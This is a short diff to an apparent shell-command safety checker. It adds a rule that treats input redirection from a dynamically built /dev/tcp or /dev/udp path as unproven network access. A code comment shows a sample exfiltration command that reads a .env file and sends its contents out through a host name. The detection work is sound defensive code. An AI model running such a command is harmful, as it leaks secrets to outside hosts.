@@ -2895,6 +2895,11 @@ def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
 
 def _redir_verdict(op: str, target: Optional[_W]) -> _V:
     kind = op.lstrip("0123456789")
+    if kind == "<" and target is not None and not target.static \
+            and ("/dev/tcp/" in target.text or "/dev/udp/" in target.text):
+        # bash connects to the host it names: one built from an expansion
+        # carries data out (`< /dev/tcp/$(cat .env).example.com/80`).
+        return _unknown("network_data_unproven")
     if target is None or kind in ("<", "<<<"):
         return _an_read()
     if kind in ("<&", ">&"):
